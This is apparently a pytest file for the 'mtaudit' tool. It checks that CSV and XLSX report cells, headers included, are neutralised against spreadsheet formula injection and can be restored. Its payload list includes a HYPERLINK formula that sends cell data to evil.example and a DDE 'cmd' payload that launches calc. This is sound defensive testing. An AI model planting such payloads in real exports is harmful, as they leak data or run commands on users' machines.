"""Class 5 (issue 21): every cell written to CSV or XLSX, header cells included, is inert in a
spreadsheet; ``restore`` gives back what the input held."""
from __future__ import annotations

import csv
from pathlib import Path

import pytest
from click.testing import CliRunner
from hypothesis import given
from hypothesis import strategies as st

from mtaudit.cli import cli
from mtaudit.report.csv_report import FORMULA_STARTS, neutralise, restore

PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A2,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1", "'=already quoted"]


def table(tmp_path: Path, name: str, hyps: list[str]) -> Path:
    path = tmp_path / name
    with open(path, "w", newline="", encoding="utf-8") as f:
        writer = csv.writer(f)
        writer.writerow(["hyp", *PAYLOADS])
        for k, hyp in enumerate(hyps):
            writer.writerow([hyp, *(f"{p} {k}" for p in PAYLOADS)])
    return path


def inert(cell: str) -> bool:
    return not cell.startswith(FORMULA_STARTS)


def read_csv(path: Path) -> list[list[str]]:
    with open(path, newline="", encoding="utf-8") as f:
        return list(csv.reader(f))


def check_xlsx(path: Path, sheet: str) -> None:
    openpyxl = pytest.importorskip("openpyxl")
    book = openpyxl.load_workbook(path)
    header = [c for c in next(book[sheet].iter_rows(min_row=1, max_row=1))]
    named = {c.value: c for c in header}
    for payload in PAYLOADS:
        cell = named[payload.replace("\r", "_x000D_")]  # the name as it was, a string (openpyxl shows CR escaped) …
        assert cell.data_type == "s"
        if payload.startswith(FORMULA_STARTS):
            assert cell.quotePrefix  # … that Excel shows as text, never runs as a formula


def test_audit_sentences_csv_headers_are_inert_and_restore(tmp_path: Path) -> None:
    out = tmp_path / "out"
    run = CliRunner().invoke(cli, ["audit", str(table(tmp_path, "a.csv", ["A cat.", "A dog."])), "--out", str(out),
                                   "-q", "--grammar", "none", "--bootstrap", "1", "--format", "csv,xlsx,json"])
    assert run.exit_code == 0, run.output
    rows = read_csv(out / "sentences.csv")
    assert all(inert(cell) for row in rows for cell in row)
    assert [restore(h) for h in rows[0][-len(PAYLOADS):]] == PAYLOADS
    assert [restore(c) for c in rows[1][-len(PAYLOADS):]] == [f"{p} 0" for p in PAYLOADS]
    check_xlsx(out / "report.xlsx", "sentences")


def test_compare_sentences_csv_headers_are_inert(tmp_path: Path) -> None:
    a, b = table(tmp_path, "a.csv", ["A cat.", "A dog."]), table(tmp_path, "b.csv", ["The cat.", "A dog."])
    out = tmp_path / "cmp"
    run = CliRunner().invoke(cli, ["compare", str(a), str(b), "--grammar", "none", "--bootstrap", "2", "-q",
                                   "--out", str(out), "--format", "csv"])
    assert run.exit_code == 0, run.output
    rows = read_csv(out / "sentences.csv")
    assert all(inert(cell) for row in rows for cell in row)
    assert {restore(h) for h in rows[0]} >= set(PAYLOADS)  # carried through, as in the audit


@given(st.text(max_size=12))
def test_restore_undoes_neutralise(text: str) -> None:
    assert restore(neutralise(text)) == text
    assert inert(neutralise(text))
